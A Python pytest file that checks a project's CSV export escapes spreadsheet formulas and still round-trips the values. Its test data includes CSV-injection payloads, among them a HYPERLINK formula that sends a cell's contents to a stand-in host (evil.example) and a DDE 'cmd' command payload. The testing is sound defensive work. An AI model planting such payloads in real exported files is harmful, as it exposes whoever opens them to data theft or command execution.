"""Text that a spreadsheet would run as a formula is written as text, and read back as it was."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from progresvit.data.dataset import Entries, Entry, find_unlabelled, unlabelled
from progresvit.engine.files import read_pieces, write_table
from progresvit.engine.predict_files import SCHEMA, classify_files
from progresvit.table import Column, Table
from tests.engine.test_files_at_scale import Answering, Interrupted
from tests.factories import image_folder

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
)


def first_cells(text):
    """The first column of a CSV file, as a spreadsheet reads it."""
    return [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_a_table_is_text_in_csv_and_itself_in_json(attack):
    table = Table("classes", [Column("label", "label")], [{"label": attack}])
    assert first_cells(table.to_csv()) == [f"'{attack}"]
    assert json.loads(table.to_json())["rows"] == [{"label": attack}]


def test_numbers_and_other_text_are_written_as_they_are():
    values = [-0.5, -3, 1e-9, "cat", "'tis", "a=b", "", None]
    table = Table("values", [Column("value", "value")], [{"value": value} for value in values])
    assert first_cells(table.to_csv()) == ["-0.5", "-3", "1e-09", "cat", "'tis", "a=b", "", ""]


def answers_of(tmp_path, names):
    """The CSV file of a run over images with these names, the last of which cannot be read."""
    folder = image_folder(tmp_path / "images", len(names))
    entries = [Entry(entry.path, name) for entry, name in zip(find_unlabelled(folder).entries, names)]
    entries[-1] = Entry(str(folder / "none.png"), names[-1])
    return unlabelled(Entries(entries)), tmp_path / "answers.csv"


def test_formulas_in_names_of_answers_are_text_in_csv(tmp_path):
    dataset, out = answers_of(tmp_path, ATTACKS)
    summary = classify_files(Answering(), dataset, out)
    assert first_cells(out.read_bytes().decode()) == [f"'{attack}" for attack in ATTACKS]
    assert summary.unreadable[0][0] == ATTACKS[-1]


def test_a_resumed_run_writes_formulas_once_as_text(tmp_path):
    names = [f"{ATTACKS[number % len(ATTACKS)]}{number}" for number in range(30)]
    dataset, out = answers_of(tmp_path, names)
    with pytest.raises(KeyboardInterrupt):
        classify_files(Interrupted(), dataset, out)
    classify_files(Answering(), dataset, out)
    assert first_cells(out.read_bytes().decode()) == [f"'{name}" for name in names]


@given(st.lists(st.text(st.sampled_from("'=+-@\t\ra,\"\n "), min_size=1), min_size=1))
def test_every_text_survives_csv(tmp_path_factory, names):
    import pyarrow as pa

    path = tmp_path_factory.mktemp("table") / "names.csv"
    schema = pa.schema([SCHEMA.field("image"), SCHEMA.field("entropy")])
    write_table(path, schema, ".csv", [pa.table([names, [-1.0] * len(names)], schema=schema)])
    (batch,) = read_pieces(path, schema, 100)
    assert batch["image"].to_pylist() == names
    assert batch["entropy"].to_pylist() == [-1.0] * len(names)
